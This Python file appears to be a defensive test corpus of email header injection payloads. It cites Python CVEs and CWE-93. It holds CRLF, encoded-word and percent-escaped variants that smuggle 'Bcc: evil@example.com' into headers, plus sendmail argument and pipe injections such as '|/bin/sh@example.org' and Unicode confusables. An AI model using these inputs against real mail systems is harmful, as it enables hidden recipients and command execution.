"""What people have tried to smuggle into headers of mails, for every place that data could get into one.

After CVE-2024-6923, CVE-2023-27043, CVE-2025-1795, CVE-2026-1299 (Python's own), CWE-93, and lists of header injection.
"""

_EVIL = "Bcc: evil@example.com"
_LINE_ENDS = (
    *("\r\n", "\n", "\r", "\n\r", "\r\r\n", "\r\n\r\n", "\n\n", "\r\n ", "\r\n\t", "\n ", "\r\n\r\n--=_0\r\n"),
    *("\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x1f", "\x85", "\u2028", "\u2029", "\x00", "\x00\r\n", "\x08", "\x7f"),
)
_ENCODED = (
    *("=?utf-8?q?Hi=0D=0ABcc:_evil@example.com?=", "=?utf-8?Q?=0ABcc:_evil@example.com?="),
    *("=?utf-8?b?SGkNCkJjYzogZXZpbEBleGFtcGxlLmNvbQ==?=", "=?us-ascii?q?=0D=0A=0D=0A<script>?="),
    *("=?iso-8859-1?q?a?= =?utf-8?q?=0D=0AX:_y?=", "=?utf-8?q?=00?=", "=?utf-8?q?=E2=80=A8Bcc:_evil@example.com?="),
    *(
        "=?utf-7?q?+AA0-+AAo-Bcc?=",
        "=?unknown-8bit?q?=FF?=",
        "=?utf-8?x?what?=",
        "=?utf-8?q?unfinished",
        "=?",
        "?=",
        "=?=",
    ),
    *("=?utf-8*en?q?language?=", "=?utf-8?b?=?=", "a=?utf-8?q?_?=b", "=\u200b?utf-8?q?=0D=0A?="),
)
_ESCAPED = (
    *(
        "%0d%0aBcc:%20evil@example.com",
        "%0D%0A%0D%0A<html>",
        "%00",
        "%E5%98%8A%E5%98%8DBcc: evil@example.com",
        "%250d%250a",
    ),
    *(
        "\\r\\nBcc: evil@example.com",
        "&#13;&#10;Bcc: evil@example.com",
        "\u560a\u560dBcc: evil@example.com",
        "\\u000d\\u000a",
    ),
)
_ADDRESSES = (
    *("evil@example.com,", ", evil@example.com", "<evil@example.com>", "> <evil@example.com", "a>, <evil@example.com"),
    *('"a b"@example.org', '"a\\" <evil@example.com>"@example.org', "ada@example.org\\0", "ada(comment)@example.org"),
    *("@example.com:ada", "evil@example.com:ada@example.org", "group: evil@example.com;", "ada@[127.0.0.1]", "a@b@c"),
    *(
        "ada@b\u00fccher.example",
        "ada@xn--bcher-kva.example",
        "ad\u0430@example.org",
        "ada@example\uff0ecom",
        "\uff41da@x.org",
    ),
    *("ada@example.org ", " ada@example.org", "-oQ/tmp@example.org", "|/bin/sh@example.org", "ada%evil@example.org"),
    *("alice@example.org]evil.com", "ada@example.org.", ".ada@example.org", "a..b@example.org", "ada@-x-", "@", "ada@"),
)
_SEEN_OTHERWISE = (
    *(
        "\u202egro.elpmaxe@live",
        "\u202d",
        "\u2066a\u2069",
        "\u200f",
        "\u200b",
        "\ufeff",
        "\u00ad",
        "e\u0301",
        "\U0001f468\u200d\U0001f469",
    ),
    *(
        "\ud800",
        "\udfff\ud800",
        "\udcff",
        "\ufffe",
        "\uffff",
        "\U0010ffff",
        "\ue000",
        "\U000e0001",
        "\u3000",
        "\u00a0",
        "\u2003",
    ),
    *(
        "\t",
        " \t ",
        "  ",
        "",
        ";",
        ":",
        ";;boundary=x",
        "--=_0",
        "Bcc: evil@example.com",
        '"',
        "'",
        "\\",
        "()",
        "<>",
        "(",
        "<",
        ">",
    ),
    *(
        "x" * 77,
        "x" * 997,
        "x" * 1_000,
        "x" * 10_240,
        "\u8bba" * 70,
        "\u8bba" * 3_000,
        "y " * 400,
        "\u8bba " * 90,
        "From ",
        ".",
    ),
)

HEADER_PAYLOADS: tuple[str, ...] = (
    *(f"Hi{end}{_EVIL}" for end in _LINE_ENDS),
    *(f"{end}{_EVIL}{end}{end}<b>body</b>" for end in _LINE_ENDS),
    *_LINE_ENDS,
    *_ENCODED,
    *(f"Weekly {word} digest" for word in _ENCODED),
    *_ESCAPED,
    *_ADDRESSES,
    *_SEEN_OTHERWISE,
)
